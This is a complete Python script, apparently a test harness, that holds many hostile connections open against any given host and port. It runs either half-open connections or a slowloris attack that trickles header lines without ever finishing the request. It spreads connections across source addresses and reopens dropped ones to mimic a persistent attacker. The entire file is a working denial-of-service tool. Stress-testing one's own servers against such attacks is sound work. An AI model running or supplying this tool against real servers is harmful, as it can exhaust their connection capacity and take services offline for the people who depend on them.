#!/usr/bin/env python3
"""Holds COUNT hostile connections to HOST:PORT for SECONDS, then closes them.

  http_flood.py HOST PORT MODE COUNT SECONDS [SOURCE...]

MODE halfopen: connect and send nothing. MODE slowloris: send a request line,
then one more header line every 3 s, never the blank line that ends the
header. Connections are spread over the SOURCE addresses (default 127.0.0.1)
and one the server closes is opened again a second later, as a persistent
attacker would. Prints how many connections were opened and how many the
server closed.
"""
import errno
import selectors
import socket
import sys
import time


def main():
    host, port, mode, count, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    sources = sys.argv[6:] or ["127.0.0.1"]
    sel = selectors.DefaultSelector()
    slots = [None] * count          # socket or None
    reopen_at = [0.0] * count
    next_line = [0.0] * count
    started = [False] * count       # the request line is sent
    opened = closed = 0
    end = time.monotonic() + seconds

    def open_slot(i, now):
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((sources[i % len(sources)], 0))
            s.connect_ex((host, port))
        except OSError:
            s.close()
            reopen_at[i] = now + 1
            return
        slots[i] = s
        next_line[i] = now + 0.05  # once connected
        started[i] = False
        sel.register(s, selectors.EVENT_READ, i)
        opened += 1

    def drop(i, now):
        nonlocal closed
        s = slots[i]
        sel.unregister(s)
        s.close()
        slots[i] = None
        reopen_at[i] = now + 1
        closed += 1

    while True:
        now = time.monotonic()
        if now >= end:
            break
        for i in range(count):
            if slots[i] is None and now >= reopen_at[i]:
                open_slot(i, now)
            elif slots[i] is not None and mode == "slowloris" and now >= next_line[i]:
                line = b"X-Slow: 1\r\n" if started[i] else b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                try:
                    slots[i].send(line)
                    started[i] = True
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    drop(i, now)
                    continue
                next_line[i] = now + 3
        for key, _ in sel.select(timeout=0.2):
            i = key.data
            try:
                data = slots[i].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                drop(i, time.monotonic())
    for i in range(count):
        if slots[i] is not None:
            slots[i].close()
    print(f"{mode}: {opened} connections opened, {closed} closed by the server")


if __name__ == "__main__":
    main()
